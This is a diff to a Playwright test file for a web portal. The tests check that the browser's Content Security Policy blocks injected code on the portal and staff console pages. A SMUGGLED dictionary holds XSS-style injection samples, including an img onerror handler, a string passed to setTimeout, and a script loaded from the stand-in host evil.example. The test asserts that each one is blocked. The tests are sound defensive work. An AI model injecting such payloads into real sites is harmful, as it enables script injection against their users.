@@ -1,10 +1,10 @@
-"""Every state of every page in Chromium, with its policy in force: nothing it wants is forbidden."""
+"""Every state of every page in Chromium under its policy: nothing that it wants is forbidden."""
 
 from collections.abc import Callable
 from typing import Any
 
 import pytest
-from playwright.sync_api import Browser, Page
+from playwright.sync_api import Browser, Error, Page
 from tests.browser.portal_site import PortalSite
 from tests.browser.test_look import page_states as portal_states
 from tests.browser.test_staff_console import sign_in
@@ -14,7 +14,15 @@ from cleanbreak.domain.staff import Role
 
 States = dict[str, Callable[[Page], None]]
 FORBIDDEN = ("Content Security Policy", "TrustedHTML", "TrustedScript", "Permissions-Policy")
-CONSOLE = ("", "orders/held/", "campaigns/", "campaigns/new/", "reconciliation/", "cash/", "payouts/")
+CONSOLE = (
+    "",
+    "orders/held/",
+    "campaigns/",
+    "campaigns/new/",
+    "reconciliation/",
+    "cash/",
+    "payouts/",
+)
 
 
 def listen(page: Page) -> list[str]:
@@ -35,7 +43,7 @@ def test_no_page_wants_what_its_policy_forbids(chromium: Browser, site: PortalSi
     for name, arrive in portal_states(site).items():
         arrive(page)
         page.wait_for_load_state("networkidle")
-        assert violations(told) == [], name
+        assert violations(told) == [], f"{name}: {told}"
     page.context.close()
 
 
@@ -58,7 +66,8 @@ def test_no_page_of_the_console_does(chromium: Browser, site: PortalSite, settin
 SMUGGLED = {
     "an inline script": "document.body.append(Object.assign("
     "document.createElement('script'), {text: 'window.ran = 1'}))",
-    "a handler in markup": "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=ran=1>')",
+    "a handler in markup": "document.body.insertAdjacentHTML("
+    "'beforeend', '<img src=x onerror=ran=1>')",
     "a text as script": "setTimeout('window.ran = 1')",
     "a script from elsewhere": "document.body.append(Object.assign("
     "document.createElement('script'), {src: 'https://evil.example/x.js'}))",
@@ -73,7 +82,7 @@ def test_what_is_smuggled_in_does_not_run(kind: str, page: Page, site: PortalSit
     told = listen(page)
     try:
         page.evaluate(SMUGGLED[kind])
-    except Exception as fault:
+    except Error as fault:
         told.append(str(fault))
     page.wait_for_timeout(300)
     assert page.evaluate("window.ran") is None
